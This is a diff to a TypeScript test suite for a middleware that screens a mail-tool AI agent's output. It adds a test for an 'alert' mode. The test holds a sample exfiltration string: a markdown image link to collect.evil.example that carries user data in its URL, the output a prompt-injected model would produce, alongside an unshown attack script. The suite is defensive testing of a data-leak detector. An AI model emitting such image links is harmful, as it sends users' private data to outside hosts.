@@ -16,8 +16,13 @@ import { osoToolApproval } from './oso-tool-approval.js';
 import { withOso } from './with-oso.js';
 
 /** Runs a script through a guarded, captured loop, streamed or not, and returns the timeline. */
-async function runCaptured(mode: 'generate' | 'stream', script: readonly ScriptedStep[], sessionId = 'captured') {
-  const oso = createTestOso();
+async function runCaptured(
+  mode: 'generate' | 'stream',
+  script: readonly ScriptedStep[],
+  sessionId = 'captured',
+  osoOptions: Parameters<typeof createTestOso>[0] = {},
+) {
+  const oso = createTestOso(osoOptions);
   const log: ToolLog = { executed: [] };
   const tools = withOso(mailTools(log), { oso, sessionId, integration: 'mail', capabilities: mailCapabilities() });
   const model = wrapLanguageModel({ model: scriptedModel(script), middleware: osoMiddleware({ oso, sessionId }) });
@@ -171,6 +176,16 @@ describe('osoMiddleware', () => {
       expect(text).toContain('[image removed: collect.evil.example]');
       expect(text).toContain('Anything else?');
       expect(ofType(timeline, 'message_to_user').at(-1)?.content).toBe(text);
+    }
+  });
+
+  it('under "alert" shows the text as written and records the finding in the timeline', async () => {
+    const leak = 'Here is your chart: ![chart](https://collect.evil.example/c.png?d=alice-120000) Anything else?';
+    const script: ScriptedStep[] = [ATTACK_SCRIPT[0]!, ATTACK_SCRIPT[1]!, { text: leak }];
+    for (const mode of ['generate', 'stream'] as const) {
+      const { text, timeline } = await runCaptured(mode, script, `alert-${mode}`, { detection: { outputExfiltration: 'alert' } });
+      expect(text).toBe(leak);
+      expect(ofType(timeline, 'output_screened')).toMatchObject([{ hosts: ['collect.evil.example'], stripped: false }]);
     }
   });
 
